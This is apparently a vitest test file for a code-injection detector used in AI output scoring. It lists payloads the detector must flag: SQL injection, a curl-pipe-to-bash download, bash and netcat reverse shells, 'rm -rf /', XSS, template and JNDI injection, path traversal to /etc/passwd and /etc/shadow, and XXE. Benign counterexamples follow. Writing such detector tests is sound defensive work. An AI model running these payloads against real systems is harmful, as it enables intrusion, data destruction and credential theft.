import { expect, test } from 'vitest';
import { HARMLESS_TEXTS } from '../testing/harmless-texts.ts';
import { score } from '../testing/score.ts';

test.each([
  ['sql', "admin' OR '1'='1' --"],
  ['sql', "x' UNION SELECT null, version(), user() --"],
  ['sql', "Robert'); DROP TABLE students;--"],
  ['sql', "1; WAITFOR DELAY '0:0:5'--"],
  ['sql', "7' AND SLEEP(5)--"],
  ['shell', 'report.pdf; rm -rf /'],
  ['shell', 'x && curl http://a.example/i.sh | bash'],
  ['shell', 'bash -i >& /dev/tcp/10.1.1.2/4444 0>&1'],
  ['shell', 'name$(cat /etc/passwd)'],
  ['shell', '| nc -e /bin/sh 10.0.0.1 99'],
  ['script', '<script>alert(1)</script>'],
  ['script', '<img src=x onerror=alert(1)>'],
  ['script', '<svg/onload=alert(1)>'],
  ['script', '<a href="javascript:alert(1)">x</a>'],
  ['template', '{{7*7}}'],
  ['template', "{{ ''.__class__.__mro__[1].__subclasses__() }}"],
  ['template', `\${jndi:ldap://a.example/x}`],
  ['template', '<%= system("id") %>'],
  ['path', '../../../../etc/passwd'],
  ['path', '..%2f..%2f..%2fetc%2fpasswd'],
  ['path', '%2e%2e%2f%2e%2e%2fsecret'],
  ['document', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]>'],
  ['document', '{"user": {"$ne": null}}'],
  ['document', '*)(uid=*))(|(uid=*'],
])('%s is found in %s', async (kind, input) => {
  const result = await score('detect-code-injection', { input });
  expect(result).toMatchObject({ passed: false });
  expect(result.evidence.map((one) => one.kind)).toContain(kind);
});

test('it is found in the arguments of a tool call', async () => {
  const toolCalls = [{ name: 'read', arguments: { path: '../../../etc/shadow' } }];
  expect(await score('detect-code-injection', { toolCalls })).toMatchObject({
    passed: false,
    evidence: [{ pointer: '/toolCalls/0/arguments/path', kind: 'path', start: 0, end: 19 }],
  });
});

test.each([
  ['What does <script> do in HTML?', 'The <script> element holds code that the page runs.'],
  [
    'How do I prevent SQL injection?',
    "Never build `name = '\" + input + \"'`: with ' OR '1'='1 all rows come back.",
  ],
  ['How do I remove a folder in bash?', 'Run:\n```sh\ncd /tmp; rm -rf ./build && ls -la\n```'],
  ['Write an HTML button', '<button onclick="save()">Save</button>'],
  ['Import it', 'const x = require("../../lib/x");'],
  ['Summarise the book', "It's about O'Brien and the others -- a long story."],
  ['Fill the template', 'Dear {{name}}, your order {{order.id}} is ready.'],
  ['Rock; paper; scissors', 'One; two; three.'],
  ['What are my options, 1 or 2?', 'Either A or B = C.'],
])('nothing is found at the default threshold in: %s', async (input, output) => {
  expect(await score('detect-code-injection', { input, output })).toMatchObject({ passed: true });
});

test.each(HARMLESS_TEXTS)('nothing is found in: %s', async (text) => {
  expect(await score('detect-code-injection', { input: text })).toMatchObject({ passed: true });
  expect(await score('detect-code-injection', { output: text })).toMatchObject({ passed: true });
});
